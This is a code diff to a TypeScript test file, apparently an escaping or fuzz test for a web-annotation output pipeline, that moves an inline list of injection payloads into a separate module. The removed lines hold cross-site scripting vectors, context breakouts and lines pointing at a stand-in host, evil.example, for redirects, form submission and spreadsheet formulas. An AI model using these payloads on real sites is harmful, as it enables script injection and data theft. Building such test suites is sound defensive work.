@@ -17,53 +17,8 @@ import { accountToWebAnnotation } from '../../src/output/web-annotation.js';
 import { pageAt } from '../../src/page/site.js';
 import { accountOf } from '../../src/pipeline.js';
 import { documentOf } from '../read-text.js';
+import { PAYLOADS } from './payloads.js';
 import { measured, random } from './record.js';
-
-/** Ways out of text, attribute, script, style, comment and section, each with a way in. */
-const OUT = [
-  '',
-  '"',
-  "'",
-  '">',
-  "'>",
-  '`',
-  '</title>',
-  '</style>',
-  '</script>',
-  '-->',
-  ']]>',
-  '</textarea>',
-  '</svg>',
-  '<!--<script>',
-  '&quot;>',
-  '\u2028',
-  '</bdi></p>',
-  '\\u003c',
-  '\u0000',
-  '\ud800',
-];
-const IN = [
-  '<script>run(1)</script>',
-  '<img src=x onerror=run(2)>',
-  '<svg/onload=run(3)>',
-  '<iframe srcdoc="<script>run(4)</script>">',
-  '<a href="javascript:run(5)">x</a>',
-  '<math><mi xlink:href="data:x,run(6)">',
-  '<style>@import "//evil.example"</style>',
-  '<base href="//evil.example/">',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<form action=//evil.example><input name=a>',
-  '[x](javascript:run(7))',
-  '![x](http://evil.example/a.png)',
-  '=HYPERLINK("http://evil.example")',
-  '\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM',
-  '&lt;script&gt;',
-  '{{7*7}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless page would take for a placeholder
-  '${run(8)}',
-  '<x onclick=run(9)>',
-];
-const PAYLOADS = OUT.flatMap((out) => IN.map((one) => `${out}${one}`));
 
 const next = random(99);
 const some = (count: number): string[] =>
